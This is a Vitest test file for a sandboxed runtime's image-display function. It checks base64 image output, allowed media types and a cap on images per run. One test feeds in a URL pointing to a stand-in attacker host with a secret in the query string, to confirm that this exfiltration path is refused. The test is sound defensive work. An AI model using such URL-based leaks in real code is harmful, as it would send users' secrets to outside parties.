import { afterAll, describe, expect, test } from "vitest";
import { MossCompiler } from "../../engine/compiler/moss-compiler.ts";
import { MAX_SHOWN_IMAGES } from "../../engine/image-content.ts";
import type { MossRuntime } from "../../engine/runtime/moss-runtime.ts";
import { closeSharedSandboxes } from "../../engine/runtime/shared-sandbox.ts";
import { BLUE_DOT } from "../fixtures/images/camera-context.ts";

const MODULE = "test/fixtures/images/camera-context.ts";
const open: MossRuntime[] = [];
afterAll(async () => {
  await Promise.all(open.map((runtime) => runtime.close()));
  await closeSharedSandboxes();
});

describe.each(["in-process", "process"] as const)("moss.show (%s sandbox)", (sandbox) => {
  test("an image a service returned comes out of the run in execution.images, bytes as base64", async () => {
    const runtime = await new MossCompiler({ sandbox }).compile(MODULE);
    open.push(runtime);
    const execution = await runtime.execute({
      code: 'async function main(moss: Moss) {\n  const picture = await moss.camera.snap();\n  moss.show(picture);\n  moss.show({ mediaType: "image/jpeg", data: "aGk=", detail: "low" });\n}',
    });
    expect(execution.error).toBeUndefined();
    expect(execution.images).toEqual([
      { mediaType: "image/png", name: "desk.png", data: Buffer.from(BLUE_DOT).toString("base64") },
      { mediaType: "image/jpeg", data: "aGk=", detail: "low" },
    ]);
    // Each run shows its own images: a run that shows none has no images.
    const next = await runtime.execute({ code: "async function main(moss: Moss) { return 1; }" });
    expect(next.images).toBeUndefined();
  });

  test("what is not an image, and more images than a run may show, fail inside the run as TypeErrors", async () => {
    const runtime = await new MossCompiler({ sandbox }).compile(MODULE);
    open.push(runtime);
    const refused = await runtime.execute({
      code: 'async function main(moss: Moss) {\n  const seen: string[] = [];\n  for (const image of [{ mediaType: "image/png", url: "https://attacker.example/?secret=1" }, { mediaType: "image/bmp", data: "aGk=" }]) {\n    try { moss.show(image as any); } catch (error) { seen.push((error as Error).name + ": " + (error as Error).message); }\n  }\n  return seen;\n}',
    });
    // A URL would be fetched by the model's provider, a way out for what the code puts in it: bytes only.
    expect(refused.returns).toEqual([
      "TypeError: moss.show(image) takes the image's bytes (data), not a URL",
      'TypeError: moss.show(image): image.mediaType must be one of image/png, image/jpeg, image/gif, image/webp; got "image/bmp"',
    ]);
    const many = await runtime.execute({
      code: `async function main(moss: Moss) {\n  const picture = await moss.camera.snap();\n  for (let i = 0; i <= ${MAX_SHOWN_IMAGES}; i++) moss.show(picture);\n}`,
    });
    expect(many.ok).toBe(false);
    expect(many.error?.message).toContain(`at most ${MAX_SHOWN_IMAGES} images`);
  });
});
